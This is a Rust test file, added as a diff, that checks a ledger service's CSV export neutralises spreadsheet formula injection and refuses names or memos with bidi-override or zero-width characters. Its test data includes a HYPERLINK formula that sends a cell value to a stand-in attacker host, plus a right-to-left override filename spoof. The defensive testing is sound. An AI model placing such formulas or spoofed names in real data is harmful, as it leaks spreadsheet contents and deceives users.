@@ -1,0 +1,63 @@
+//! Hardening, seen from outside: CSV exports that a spreadsheet cannot run, names and memos
+//! without format characters.
+
+use super::helpers::*;
+use axum::http::StatusCode;
+use kube_ledger::service::export::{export, ExportFormat};
+use serde_json::json;
+
+const FORMULA: &str = "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")";
+
+/// The cells of a CSV text, row by row.
+fn cells(text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+    reader.records().map(|record| record.unwrap().iter().map(str::to_string).collect()).collect()
+}
+
+#[tokio::test]
+async fn a_formula_in_a_memo_comes_out_of_the_csv_export_as_text() {
+    let app = spawn_app().await;
+    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
+    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
+        let (status, body) =
+            app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
+        assert_eq!(status, StatusCode::CREATED, "{body}");
+    }
+    let mut out = Vec::new();
+    export(app.ledger.store(), app.kube, ExportFormat::Csv, &mut out).unwrap();
+    let rows = cells(&String::from_utf8(out).unwrap());
+    let memo_column = rows[0].iter().position(|name| name == "memo").unwrap();
+    let memos: Vec<&str> = rows[1..].iter().map(|row| row[memo_column].as_str()).collect();
+    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
+        assert!(memos.contains(&format!("'{memo}").as_str()), "{memo:?} not neutralised: {memos:?}");
+        assert!(!memos.contains(&memo), "{memo:?} written raw");
+    }
+    for row in &rows[1..] {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
+            assert!(!cell.starts_with('-') || cell[1..].parse::<f64>().is_ok(), "a formula cell: {cell:?}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_name_or_memo_with_a_bidi_override_or_zero_width_character_is_refused_at_its_field() {
+    let app = spawn_app().await;
+    for name in ["Ani\u{202E}gnp.exe", "A\u{200B}ni", "\u{2066}Ani"] {
+        let body = json!({"number": "TAHU-050", "name": name, "kind": "klien", "joined_on": "2026-01-05"});
+        let path = format!("/api/v1/entities/{}/members", app.kube);
+        let (status, answer) = send(&app.router, "POST", &path, Some(&app.treasurer), Some(body)).await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?}: {answer}");
+        let message = answer["error"]["message"].as_str().unwrap_or_default();
+        assert!(message.contains("nama anggota") && message.contains("format tak terlihat"), "{name:?}: {answer}");
+    }
+    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
+    let memo = "Jual tahu \u{202E}000.005 pR";
+    let before = app.entries_count(app.kube).await;
+    let (status, answer) =
+        app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
+    assert_eq!(answer["error"]["code"], "invalid_memo", "{answer}");
+    assert!(answer["error"]["message"].as_str().unwrap_or_default().contains("format tak terlihat"), "{answer}");
+    assert_eq!(app.entries_count(app.kube).await, before, "nothing stored");
+}
